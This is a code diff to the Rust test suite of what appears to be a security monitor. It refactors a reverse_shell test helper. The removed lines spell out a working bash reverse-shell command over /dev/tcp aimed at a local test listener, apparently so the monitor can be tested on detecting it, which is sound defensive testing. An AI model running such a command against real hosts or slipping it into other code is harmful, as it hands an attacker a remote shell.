@@ -24,7 +24,7 @@ use sentinel_ipc::{
 };
 use sentinel_tests::{
     bed::Bed,
-    peer::Peer,
+    peer::{self, Peer},
     rig,
     sentinel::{PATIENCE, alerts, is_running, program, send, within},
 };
@@ -101,9 +101,7 @@ fn kill(mut analyzer: Child) {
 /// A shell that connects out and stays until its end is called.
 fn reverse_shell(bed: &Bed) -> impl FnOnce() {
     let peer = Peer::listen("127.0.0.1");
-    let code = format!("exec bash >& /dev/tcp/127.0.0.1/{} 0>&1", peer.address().port());
-    let mut command = bed.command("bash");
-    let mut child = command.args(["-c", &code]).stderr(Stdio::null()).spawn().unwrap();
+    let mut child = peer::reverse_shell(bed, &peer);
     let mut shell = peer.shell();
     shell.pid();
     move || {
